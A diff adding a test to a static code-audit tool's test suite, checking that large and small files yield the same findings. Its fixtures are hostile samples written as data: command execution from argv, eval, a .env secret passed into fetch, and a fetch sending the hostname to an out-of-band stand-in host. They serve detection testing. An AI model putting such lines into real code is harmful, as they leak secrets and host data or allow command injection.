@@ -513,3 +513,26 @@ test('independent review 2: a secret or a download handed to a function of the f
   assert.ok(!sig("const k = require('fs').readFileSync('.env', 'utf8');\nauth(k);\nfunction auth(t) { fetch(u, { headers: { authorization: t } }); }").includes('recon/secret-flow'));
   assert.ok(!sig("function run(c) { eval(c); }\nrun('1 + 1');").includes('eval/eval-downloaded'));
 });
+
+test('a large file parsed with offsets up front gets the same facts as a small one parsed without (and again with them)', async () => {
+  const { OFFSETS_UP_FRONT } = await import('../../src/audit/code/analyze.js');
+  const plain = [
+    'const cp = require("child_process");',
+    'function run(cmd) { return cp.exec(cmd); }',
+    'module.exports = (name) => require(name);',
+    'eval("require(\'os\').hostname()");',
+    'run(process.argv[2]);',
+  ].join('\n');
+  // A finding points at this one: the offset-free walk stops and the file is walked again with offsets.
+  const precise = `${plain}\nfetch("https://x.oast.fun.invalid/" + require("os").hostname());\nglobalThis.fetch = function (u) { return u; };\n`;
+  for (const source of [plain, precise]) {
+    const large = `${source}\n${' '.repeat(OFFSETS_UP_FRONT)}`;
+    assert.ok(source.length < OFFSETS_UP_FRONT && large.length >= OFFSETS_UP_FRONT);
+    const small = analyzeSource(source);
+    assert.ok(small.parsed && small.evidence.length > 0);
+    assert.deepEqual(analyzeSource(large), small);
+  }
+  const facts = analyzeSource(`${precise}\n${' '.repeat(OFFSETS_UP_FRONT)}`);
+  assert.equal(facts.evidence.find((e) => e.signal === 'known-endpoint')?.line, 6);
+  assert.deepEqual(facts.hooks.map((h) => `${h.rule}:${h.line}`), ['reassign-fetch:7']);
+});
